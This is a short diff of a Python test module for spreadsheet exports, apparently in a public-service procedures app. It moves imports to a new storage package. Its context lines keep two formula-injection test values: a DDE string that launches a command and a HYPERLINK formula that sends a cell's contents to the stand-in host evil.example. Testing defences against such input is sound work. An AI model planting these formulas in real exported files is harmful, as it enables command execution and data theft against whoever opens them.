@@ -16,7 +16,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from tests.conftest import Cli
-from tthc.sheets import FORMULA_START, csv_cell, unquote, write_table
+from tthc.storage.sheets import FORMULA_START, csv_cell, unquote, write_table
 
 EVIL_OFFICER = "=cmd|' /C calc'!A0"
 EVIL_APPLICANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -177,7 +177,7 @@ def test_a_procedure_named_like_a_formula_comes_back_from_its_export(center: Cli
 
 def test_a_workbook_of_several_sheets_runs_no_formula_either(tmp_path: Path) -> None:
     """The province's roll-up writes a sheet per center: a center named like a formula too."""
-    from tthc.sheets import write_workbook
+    from tthc.storage.sheets import write_workbook
 
     out = tmp_path / "rollup.xlsx"
     write_workbook(out, [("=A1", ["center", "rate"], [[EVIL_APPLICANT, -1.5]]), ("total", ["x"], [["+1"]])])
